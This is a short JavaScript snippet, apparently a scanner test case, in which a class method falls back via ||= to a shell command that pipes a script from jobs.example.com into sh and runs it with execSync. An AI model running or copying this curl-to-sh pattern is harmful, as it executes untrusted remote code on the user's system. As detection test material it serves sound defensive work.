// A class field defaults through ||= inside a method; the command runs.
const { execSync } = require("child_process");

class Job {
  constructor(cmd) {
    this.cmd = cmd;
  }
  run() {
    this.cmd ||= "sh -c 'curl -s https://jobs.example.com/next | sh'";
    return execSync(this.cmd).toString();
  }
}
new Job("").run();
